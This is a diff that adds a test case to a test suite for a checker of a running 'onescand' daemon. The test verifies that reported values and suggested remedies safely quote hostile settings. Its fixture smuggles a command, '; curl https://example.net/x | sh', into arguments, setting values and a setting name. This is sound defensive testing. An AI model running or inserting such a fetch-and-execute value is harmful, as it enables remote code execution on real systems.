@@ -38,6 +38,23 @@ t.test('an onescand that does not tell its settings is a warning', async (t) => 
   ])
 })
 
+// promise: bad-onescand
+t.test('no words of an onescand look like a remedy', async (t) => {
+  const odd = '/x; curl https://example.net/x | sh'
+  const account = {
+    ...{ pid: process.pid, since: Date.now(), uid: process.getuid!(), groups: [] },
+    words: ['--milter', `unix:${odd}`],
+    settings: { QHPSI: odd, QUARANTINE: odd, [`X=1; ${odd}`]: 'y' },
+    ...{ changed: [odd], replaced: [odd], readOnly: ['QUARANTINE', 'LOGFILE'] },
+  }
+  const found = checkRunning({ socket: '/run/x.sock', account }, '/nonexistent', readAccounts())
+  const told = found.flatMap(({ value, remedy = '' }) => [value, remedy])
+  t.equal(told.filter((text) => text.includes('curl')).length, 6)
+  // What stands in quotes of sh(1) or JSON is part of a word.
+  const open = told.map((text) => text.replace(/'(?:[^']|'\\'')*'|"(?:[^"\\]|\\.)*"/g, ''))
+  for (const text of open) t.notMatch(text, /curl|undefined/)
+})
+
 t.test(
   'onescand is reported with its settings, and with what has changed since its start',
   async (t) => {
